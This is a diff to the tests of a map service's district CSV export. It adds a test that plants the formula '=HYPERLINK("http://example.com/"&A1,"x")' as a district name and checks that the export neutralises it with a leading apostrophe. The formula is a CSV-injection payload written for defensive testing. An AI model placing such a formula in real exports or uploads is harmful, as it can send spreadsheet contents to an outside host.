@@ -1,5 +1,6 @@
 """``/map/`` and its data answers, as served, on the real districts."""
 
+import csv
 import json
 import re
 
@@ -245,6 +246,22 @@ def test_district_csv_has_the_figures_with_decimal_points(coordinator):
     antakya = next(line for line in lines if line.startswith("2080,"))
     assert antakya.split(",")[:6] == ["2080", "Antakya", "298620", "", "3", "0.0100"]
     assert len(lines) == 16
+
+
+def test_district_csv_never_holds_a_formula(coordinator):
+    """District names come from a planner's upload: one a spreadsheet would
+    run is written with a leading apostrophe."""
+    from boundaries.models import Feature
+
+    Feature.objects.filter(
+        generation__layer__code="districts", generation__is_active=True, code="2080"
+    ).update(name='=HYPERLINK("http://example.com/"&A1,"x")')
+
+    response = coordinator.get("/map/districts.csv")
+
+    rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
+    antakya = next(row for row in rows if row[0] == "2080")
+    assert antakya[1] == '\'=HYPERLINK("http://example.com/"&A1,"x")'
 
 
 def test_layers_come_as_geojson_with_names_and_codes_only(coordinator):
